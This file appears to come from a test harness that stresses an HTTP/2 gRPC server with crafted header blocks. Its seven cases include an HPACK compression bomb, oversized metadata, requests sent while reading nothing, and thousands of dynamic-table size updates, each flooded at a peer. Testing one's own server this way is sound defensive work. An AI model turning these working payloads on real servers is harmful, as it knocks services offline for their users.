// Header blocks that cost more to read than to send.
import { Buffer } from "node:buffer";
import { END_HEADERS, END_STREAM, field, frame, headers, integer, request, Type } from "../frames.mjs";

/** A header block in as many frames as it needs. */
function section(id, block) {
  const parts = [];
  for (let at = 0; at < block.length; at += 16_384) {
    const last = at + 16_384 >= block.length;
    const type = at === 0 ? Type.HEADERS : Type.CONTINUATION;
    const flags = (last ? END_HEADERS : 0) | (at === 0 ? END_STREAM : 0);
    parts.push(frame(type, flags, id, block.subarray(at, at + 16_384)));
  }
  return Buffer.concat(parts);
}

/** See `../list.mjs`. */
export default [
  {
    name: "hpack-bomb",
    says: "a field of 4 KB in the dynamic table, and 15,000 references to it a request",
    run: (attack) => {
      const first = Buffer.concat([request(attack.path("Unary")), field("x-bomb", "a".repeat(3_000), true)]);
      const bomb = Buffer.concat([request(attack.path("Unary")), Buffer.alloc(15_000, 0x80 | 62)]);
      return attack.flood((peer) => section(peer.take(), peer.nextId === 3 ? first : bomb));
    },
  },
  {
    name: "indexed-block",
    says: "240 KB of indexed fields a request",
    run: (attack) => {
      const block = Buffer.concat([request(attack.path("Unary")), Buffer.alloc(240_000, 0x80 | 2)]);
      return attack.flood((peer) => section(peer.take(), block));
    },
  },
  {
    name: "too-large",
    says: "requests with 20 KB of metadata, which are answered with 431",
    run: (attack) => {
      const block = request(attack.path("Unary"), ["x-large", "a".repeat(20_000)]);
      return attack.flood((peer) =>
        Buffer.concat([section(peer.take(), block), section(peer.take(), block)])
      );
    },
  },
  {
    name: "too-large-deaf",
    says: "the same, and nothing is read",
    run: (attack) => {
      const block = request(attack.path("Unary"), ["x-large", "a".repeat(20_000)]);
      return attack.flood((peer) => section(peer.take(), block), { deaf: true });
    },
  },
  {
    name: "table-updates",
    says: "requests full of changes of the dynamic table's size",
    run: (attack) => {
      const updates = Buffer.concat(
        new Array(7_000).fill(Buffer.concat([integer(0, 5, 0x20), integer(4_096, 5, 0x20)])),
      );
      return attack.flood((peer) => section(peer.take(), updates));
    },
  },
  {
    name: "unknown-method",
    says: "calls of methods that do not exist, each with another name",
    run: (attack) => {
      let number = 0;
      return attack.flood((peer) => {
        const calls = [];
        for (let i = 0; i < 100; i++) {
          calls.push(headers(peer.take(), request(`/none.Such/Method${number++}`), true));
        }
        return Buffer.concat(calls);
      });
    },
  },
  {
    name: "not-grpc",
    says: "requests that are none of gRPC, and are answered before they end",
    run: (attack) => {
      const fields = [
        [":method", "POST"],
        [":scheme", "http"],
        [":path", attack.path("Unary")],
        [":authority", "attack"],
        ["content-type", "application/grpc+json"],
      ];
      const block = Buffer.concat(fields.map(([name, value]) => field(name, value)));
      return attack.flood((peer) =>
        Buffer.concat(Array.from({ length: 100 }, () => headers(peer.take(), block)))
      );
    },
  },
];
